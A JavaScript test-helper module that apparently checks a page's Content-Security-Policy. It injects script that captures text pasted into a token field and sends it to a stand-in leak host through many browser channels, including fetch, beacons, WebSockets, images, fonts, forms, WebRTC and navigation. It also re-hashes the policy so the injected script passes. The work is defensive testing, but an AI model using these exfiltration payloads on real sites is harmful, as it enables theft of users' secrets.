// Builds of the page that try to give away what is pasted, one for each way a browser has.

import { createHash } from "node:crypto";

const META = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">\n?/;

/// The directives of a page's policy, by name.
export function directives(html) {
  const policy = META.exec(html)?.[1];
  if (!policy) throw new Error("the page has no policy");
  return new Map(policy.split(";").map((part) => [part.trim().split(" ")[0], part.trim()]));
}

/// The page with code in it that is run when something is put in the field of the token, allowed to run by the policy's
/// hash. `drop`: directives that are left out; `"all"`: the whole policy.
export function hostile(html, code, drop = []) {
  const added = `;addEventListener("input",event=>{const text=event.target.value;const part=encodeURIComponent(text.slice(0,600));if(globalThis.__sent)return;globalThis.__sent=1;${code}},true);`;
  const start = html.lastIndexOf("<script>") + "<script>".length;
  const end = html.indexOf("</script>", start);
  const script = html.slice(start, end) + added;
  const sha = (text) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
  const old = sha(html.slice(start, end));
  const whole = html.slice(0, start) + script + html.slice(end);
  if (drop === "all") return whole.replace(META, "");
  const kept = [...directives(html)].filter(([name]) => !drop.includes(name)).map(([, text]) => text);
  const policy = kept.join("; ").replace(old, sha(script));
  return whole.replace(META, () => (policy ? `<meta http-equiv="Content-Security-Policy" content="${policy}">\n` : ""));
}

const FAR = "`http://${FAR}/leak/${ID}?${part}`";
const link = (rel, more = "") => `const link=document.createElement("link");link.rel=${JSON.stringify(rel)};${more}link.href=${FAR};document.head.append(link)`;

/// What the policy covers: the code, and the directives that each hold it on their own.
export const COVERED = {
  fetch: [`fetch(${FAR},{mode:"no-cors"}).catch(()=>{})`, ["connect-src", "default-src"]],
  "fetch, posting": [`fetch(${FAR},{mode:"no-cors",method:"POST",body:text}).catch(()=>{})`, ["connect-src", "default-src"]],
  XMLHttpRequest: [`const asked=new XMLHttpRequest();asked.open("GET",${FAR});asked.send()`, ["connect-src", "default-src"]],
  beacon: [`navigator.sendBeacon(${FAR},text)`, ["connect-src", "default-src"]],
  WebSocket: ["new WebSocket(`ws://${FAR}/leak/${ID}?${part}`)", ["connect-src", "default-src"]],
  EventSource: [`new EventSource(${FAR})`, ["connect-src", "default-src"]],
  ping: [`const a=document.createElement("a");a.href="#/";a.ping=${FAR};document.body.append(a);a.click()`, ["connect-src", "default-src"], { except: ["firefox"] }],
  image: [`new Image().src=${FAR}`, ["img-src", "default-src"]],
  icon: [link("icon"), ["img-src", "default-src"], { except: ["chromium", "firefox"] }],
  "url() in a style": [`document.body.style.backgroundImage="url("+JSON.stringify(${FAR})+")"`, ["img-src", "default-src"]],
  stylesheet: [link("stylesheet"), ["style-src", "default-src"]],
  font: [`new FontFace("leak","url("+JSON.stringify(${FAR})+")").load().catch(()=>{})`, ["font-src", "default-src"]],
  sound: [`new Audio(${FAR}).load()`, ["media-src", "default-src"]],
  frame: [`const frame=document.createElement("iframe");frame.src=${FAR};document.body.append(frame)`, ["frame-src", "default-src"]],
  object: [`const object=document.createElement("object");object.data=${FAR};document.body.append(object)`, ["object-src", "default-src"], { also: ["frame-src", "require-trusted-types-for"] }],
  embed: [`const embed=document.createElement("embed");embed.src=${FAR};document.body.append(embed)`, ["object-src", "default-src"], { also: ["frame-src", "require-trusted-types-for"] }],
  "script element": [`const script=document.createElement("script");script.src=${FAR};document.body.append(script)`, ["script-src", "require-trusted-types-for"], { also: ["default-src"] }],
  "import()": [`import(${FAR}).catch(()=>{})`, ["script-src"], { also: ["default-src"] }],
  worker: [`new Worker("data:text/javascript,postMessage(1)").onmessage=()=>fetch(${FAR},{mode:"no-cors"}).catch(()=>{})`, ["worker-src", "require-trusted-types-for"], { also: ["default-src", "script-src", "connect-src"] }],
  form: [`const form=document.createElement("form");form.action=${FAR};form.method="post";const field=document.createElement("input");field.name="t";field.value=text;form.append(field);document.body.append(form);form.submit()`, ["form-action"]],
  prefetch: [link("prefetch"), ["default-src"], { also: ["connect-src", "font-src", "media-src", "object-src", "frame-src", "worker-src", "manifest-src", "img-src"], except: ["firefox"] }],
  preload: [link("preload", 'link.as="image";'), ["img-src", "default-src"]],
  modulepreload: [link("modulepreload"), ["script-src"], { also: ["default-src"] }],
  "a base for relative addresses": ["const base=document.createElement(\"base\");base.href=`http://${FAR}/leak/`;document.head.append(base);new Image().src=`${ID}?${part}`", ["base-uri"], { also: ["img-src", "default-src"] }],
};

/// What no policy in a page covers. The code of this page has no way to do it, and the tests see it when code has.
export const UNCOVERED = {
  WebRTC: "const peer=new RTCPeerConnection({iceServers:[{urls:`stun:${FAR}`}]});peer.createDataChannel('x');peer.createOffer().then(offer=>peer.setLocalDescription(offer))",
  preconnect: link("preconnect"),
  "look-up of a name": "const link=document.createElement('link');link.rel='preconnect';link.href=`http://${ID}.leak.example/`;document.head.append(link)",
  "going elsewhere": `location=${FAR}`,
  "a new window": `open(${FAR})`,
  "a link that is clicked": `const a=document.createElement("a");a.href=${FAR};document.body.append(a);a.click()`,
  "a refresh": `const meta=document.createElement("meta");meta.httpEquiv="refresh";meta.content="0;url="+${FAR};document.head.append(meta)`,
  "an address of its own host": "location=`stolen/${ID}?${part}`",
};

/// Ways to leave something behind.
export const LEFT_BEHIND = {
  localStorage: "localStorage.setItem('x',text)",
  sessionStorage: "sessionStorage.setItem('x',text)",
  cookie: "document.cookie='x='+text.slice(0,600)+';max-age=9999'",
  "a database": "indexedDB.open('x').onupgradeneeded=e=>e.target.result.createObjectStore('y').put(text,1)",
  "a cache": "caches.open('x').then(c=>c.put('/x',new Response(text)))",
  "the fragment": "location.hash=text",
  "the state of the history": "history.replaceState(text,'')",
  "the title": "document.title=text",
  "the name of the window": "window.name=text",
  "the console": "console.log(text)",
  "the session that the browser saves": "document.getElementById('token').removeAttribute('autocomplete')",
};

/// The code with what it needs to know.
export const aim = (code, far, id) => `const FAR=${JSON.stringify(far.host)},ID=${JSON.stringify(id)};${code}`;
